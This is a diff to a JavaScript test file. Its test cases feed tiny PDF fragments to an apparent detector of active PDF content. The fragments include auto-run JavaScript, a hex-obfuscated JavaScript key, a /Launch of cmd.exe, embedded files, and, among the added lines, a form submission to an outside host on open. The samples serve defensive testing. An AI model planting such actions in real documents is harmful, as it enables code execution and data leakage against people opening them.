@@ -28,6 +28,8 @@ describe('a PDF that does more than to be read', () => {
     ['a script', pdf('1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
     ['a script in other letters', pdf('1 0 obj << /S /J#61va#53cript >>')],
     ['a program to start', pdf('1 0 obj << /A << /S /Launch /F (cmd.exe) >> >>')],
+    ['a form sent away', pdf('1 0 obj << /OpenAction << /S /SubmitForm /F (http://x.pe) >> >>')],
+    ['a jump into a file', pdf('1 0 obj << /OpenAction << /S /GoToE /F (x.pdf) >> >>')],
     ['a file inside', pdf('1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >>')],
     ['a file of no type inside', pdf('1 0 obj << /Type /Filespec /EF << /F 7 0 R >> >>')],
     ['a form with its own scripts', pdf('1 0 obj << /AcroForm << /XFA [(a) 1 0 R] >> >>')],
